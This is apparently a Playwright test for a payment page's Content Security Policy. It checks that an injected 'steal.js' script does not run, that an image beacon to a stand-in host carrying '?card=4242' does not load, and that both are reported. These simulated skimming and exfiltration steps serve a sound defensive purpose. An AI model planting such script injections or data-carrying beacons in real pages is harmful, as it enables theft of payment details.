import type { Page } from '@playwright/test';
import { expect, test } from './support/test';

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>';

/** The reports of browsers on one address. */
async function reportsOf(page: Page, blocked: string): Promise<readonly string[]> {
  const response = await page.request.get('/sandbox/api/policy-reports');
  const reports = (await response.json()) as { page: string; directive: string; blocked: string }[];
  return reports
    .filter((report) => report.blocked.endsWith(blocked))
    .map((report) => `${report.directive} at ${new URL(report.page).pathname}`);
}

test.describe('payment-page', () => {
  test.use({ refusedOnPurpose: true });

  test('a script that was not composed does not run, a picture over http does not load, and both are reported', async ({
    page,
  }) => {
    let pictures = 0;
    await page.route('http://elsewhere.example/**', (route) => {
      pictures += 1;
      return route.fulfill({ contentType: 'image/svg+xml', body: SVG });
    });
    await page.route('**/remotes/checkout/0.0.1/steal.js', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: 'globalThis.stolen = true' }),
    );
    await page.route('/confirmation/**', async (route) => {
      const response = await route.fetch();
      const added = '<script src="/remotes/checkout/0.0.1/steal.js"></script></head>';
      await route.fulfill({ response, body: (await response.text()).replace('</head>', () => added) });
    });
    await page.goto('/confirmation/loc-001_1/1');
    await expect(page.getByRole('heading', { level: 1, name: 'Confirm your charge' })).toBeVisible();
    await page.evaluate(() => {
      document.createElement('img').src = 'http://elsewhere.example/payment-page.png?card=4242';
    });
    expect(await page.evaluate(() => 'stolen' in globalThis)).toBe(false);
    await expect
      .poll(() => reportsOf(page, '/remotes/checkout/0.0.1/steal.js'))
      .toContain('script-src-elem at /confirmation');
    await expect
      .poll(() => reportsOf(page, 'http://elsewhere.example/payment-page.png'))
      .toContain('img-src at /confirmation');
    expect(pictures).toBe(0);
  });
});
